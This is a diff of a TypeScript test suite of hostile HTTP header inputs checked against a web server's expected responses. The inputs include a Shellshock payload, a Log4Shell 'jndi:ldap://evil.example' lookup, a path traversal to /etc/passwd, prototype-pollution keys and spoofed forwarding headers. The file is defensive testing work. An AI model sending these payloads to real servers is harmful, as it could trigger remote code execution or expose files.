@@ -1,20 +1,14 @@
 import { type HostileCase, headerCases, namedCases, request, words } from "./hostile-case.ts";
 
-const ranges = [
-  ...words(`
-    bytes=0-0 bytes=0- bytes=-1 bytes=-0 bytes=0-99999999999999999999 bytes=99999999999- bytes=5-1
-    bytes=--1 bytes=- bytes= bytes bytes=a-b bytes=0-0,1-1,2-2 bytes=0-1;bytes=2-3 items=0-1 =0-1
-    bytes=1e3- bytes=NaN-Infinity none \xff
-  `),
-  `bytes=${"0-,".repeat(1300)}0-`,
-  "bytes = 0 - 1",
-];
+const ranges = words(`
+  bytes=0-0 bytes=-1 bytes=0-99999999999999999999 bytes=5-1 bytes=- bytes bytes=a-b
+  bytes=0-0,1-1,2-2 items=0-1 \xff bytes=${"0-,".repeat(1300)}0-
+`);
 
 const conditions = [
   ...words(`
-    "x" W/"x" x " "" W/ , ,,, \xff\xfe null __proto__
+    "x" W/"x" x " "" W/ , \xff\xfe __proto__
   `),
-  '"x", "y", W/"z"',
   '"a" "b"',
   `${'"x",'.repeat(2000)}"y"`,
   '"'.repeat(3000),
@@ -22,11 +16,9 @@ const conditions = [
 
 const codings = [
   ...words(`
-    * *;q=0 identity;q=0 br;q=2 br;q=-1 br;q= br;q=NaN br;q=1e9 br;q=0.0000 br;level=11 GZIP
-    x-gzip compress deflate , ; ;;;q br,,,gzip ../../etc/passwd __proto__ \xff
+    *;q=0 identity;q=0 br;q=2 br;q=-1 br;q= br;q=NaN br;q=1e9 br;level=11 compress ,
+    ;;;q br,,,gzip ../../etc/passwd __proto__ \xff
   `),
-  "identity;q=0, *;q=0",
-  "gzip;q=1.000, br;q=0.999",
   "constructor, toString",
   "br, ".repeat(2000),
 ];
@@ -117,52 +109,32 @@ const large = namedCases([
   ],
 ]);
 
-const odd = namedCases(
-  [
-    "__proto__: 1",
-    "constructor: 1",
-    "prototype: 1",
-    "toString: 1",
-    "hasOwnProperty: 1",
-    '__proto__: {"isAdmin":true}',
-    "then: 1",
-    "Content-Security-Policy: default-src *",
-    "Access-Control-Request-Method: DELETE",
-    "Origin: null",
-    "Origin: https://evil.example",
-    "Referer: https://evil.example/hr",
-    "Referer: \xff",
-    "Referer: javascript:alert(1)",
-    "Sec-Fetch-Site: __proto__",
-    "Sec-Fetch-Dest: document",
-    "Accept: */*;q=NaN",
-    "Accept: application/json",
-    "Authorization: Basic ====",
-    "Proxy-Authorization: Basic eDp4",
-    "Cache-Control: only-if-cached",
-    "Pragma: no-cache",
-    "If-Modified-Since: yesterday",
-    "If-Modified-Since: Sat, 31 Dec 9999 23:59:59 GMT",
-    'If-Range: "x"',
-    'If-Match: "x"',
-    "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
-    "Max-Forwards: -1",
-    "TE: trailers, deflate;q=0.5",
-    "Keep-Alive: timeout=999999",
-    "Content-Type: text/html; charset=\xff",
-    "Content-Encoding: br",
-    "Upgrade-Insecure-Requests: 1",
-    "Early-Data: 1",
-    "User-Agent: () { :; }; /bin/sh",
-    "User-Agent: jndi:ldap://evil.example/a",
-  ].map((line) => [`a page with ${JSON.stringify(line)}`, request("GET /about", line), 200]),
-);
+/** Fields that some server somewhere heeds: sent together, since ours heeds none of them. */
+const unheeded = [
+  ...words(`
+    __proto__:1 constructor:1 toString:1 then:1 Origin:null Origin:https://evil.example
+    Referer:https://evil.example/hr Referer:\xff Sec-Fetch-Site:__proto__ Sec-Fetch-Dest:document
+    Accept:*/*;q=NaN Accept:application/json Authorization:Basic Pragma:no-cache
+    Cache-Control:only-if-cached If-Modified-Since:yesterday If-Range:"x" If-Match:"x" TE:trailers
+    Keep-Alive:timeout=999999 Content-Type:text/html;charset=\xff Content-Encoding:br Early-Data:1
+    User-Agent:jndi:ldap://evil.example/a Max-Forwards:-1 Upgrade-Insecure-Requests:1
+    Access-Control-Request-Method:DELETE X-HTTP-Method-Override:DELETE X-Forwarded-For:127.0.0.1
+    X-Forwarded-Host:evil.example X-Forwarded-Proto:javascript X-Forwarded-Port:1 X-Real-IP:127.0.0.1
+    X-Forwarded-Prefix://evil.example X-Forwarded-Path:/hr X-Original-Host:evil.example X-Original-URL:/hr
+    X-Rewrite-URL:/hr X-Host:evil.example X-HTTP-Host-Override:evil.example Via:evil.example
+    Base-Url://evil.example Destination://evil.example Proxy:http://evil.example Front-End-Https:on
+    Forwarded:for=127.0.0.1;host=evil.example;proto=https Forwarded:host=\xff
+  `),
+  "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
+  "Content-Security-Policy: default-src *",
+  "User-Agent: () { :; }; /bin/sh",
+];
 
 /** Headers and queries that hold anything but what they should. */
 export const headerFields: readonly HostileCase[] = [
   ...headerCases(200, "/about", "Range", ranges),
-  ...headerCases(200, "/favicon.ico", "Range", ranges.slice(0, 8)),
-  ...headerCases(404, "/nothing", "Range", ["bytes=0-0", "bytes=-"]),
+  ...headerCases(200, "/favicon.ico", "Range", ["bytes=0-0"]),
+  ...headerCases(404, "/nothing", "Range", ["bytes=0-0"]),
   ...headerCases(200, "/about", "If-None-Match", conditions),
   ...headerCases(304, "/about", "If-None-Match", ["*", " * "]),
   ...headerCases(404, "/nothing", "If-None-Match", ["*", '"x"']),
@@ -188,5 +160,8 @@ export const headerFields: readonly HostileCase[] = [
   ),
   ...namedCases(redirected.map((query) => [`GET ${query}`, request(`GET ${query}`), 301])),
   ...large,
-  ...odd,
+  ...namedCases([
+    ["a page with what nobody heeds", request("GET /about", ...unheeded), 200],
+    ["a redirect with it", request("GET /en/about", ...unheeded), 301],
+  ]),
 ];
